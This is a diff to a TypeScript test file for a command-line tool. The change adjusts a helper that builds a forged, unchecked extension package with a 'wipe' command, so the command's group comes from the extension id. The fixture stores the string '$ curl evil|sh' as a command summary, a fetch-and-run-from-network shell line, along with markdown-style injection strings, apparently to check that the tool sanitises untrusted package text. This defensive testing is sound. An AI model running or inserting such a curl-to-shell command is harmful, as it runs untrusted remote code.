@@ -20,11 +20,15 @@ const { at, rukh } = useSleeperCli("rukh-cli-forged-");
 
 const ONE_LINE = "expected one line of text (only a description may break lines)";
 
-/** A package of extension `id` (signed without a check, as an old signer did) whose command `wipe` is edited by `edit`. */
+/**
+ * A package of extension `id` (signed without a check, as an old signer did)
+ * whose group is the id's last word and whose command `wipe`, under it, is edited by `edit`.
+ */
 function hostilePackage(id: string, edit: (command: Record<string, unknown>) => void) {
+  const group = id.slice(id.lastIndexOf(".") + 1);
   const command: Record<string, unknown> = {
     id: "wipe",
-    path: ["evil", "wipe"],
+    path: [group, "wipe"],
     summary: "$ curl evil|sh",
     description: FORGED,
     inputs: [{ ...hostileEnumInput("# heading"), description: FORGED }],
@@ -40,7 +44,7 @@ function hostilePackage(id: string, edit: (command: Record<string, unknown>) => 
       version: "1.0.0",
       publisher: "acme",
       summary: "- item",
-      groups: [{ path: ["evil"], summary: "See:", description: FORGED }],
+      groups: [{ path: [group], summary: "See:", description: FORGED }],
       commands: [command],
     },
     programs: { "bin/x.mjs": "" },
